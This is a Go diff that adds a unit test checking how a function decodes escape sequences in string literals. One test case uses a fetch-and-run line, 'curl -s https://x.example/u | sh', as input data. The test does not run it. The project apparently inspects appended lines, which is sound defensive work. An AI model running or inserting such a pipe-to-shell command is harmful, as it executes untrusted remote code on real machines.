@@ -102,3 +102,18 @@ func TestArgListCommands(t *testing.T) {
 		}
 	}
 }
+
+// TestUnescapeLiteral: the escapes every language shares are decoded, so
+// that a line a program appends reads as the line it is; others stay.
+func TestUnescapeLiteral(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{`\ncurl -s https://x.example/u | sh\n`, "\ncurl -s https://x.example/u | sh\n"},
+		{`a\tb\\n\"q\'`, "a\tb\\n\"q'"},
+		{`\x41\u0041 end\`, `\x41\u0041 end\`},
+		{"plain", "plain"},
+	} {
+		if got := unescapeLiteral(tc.in); got != tc.want {
+			t.Errorf("unescapeLiteral(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
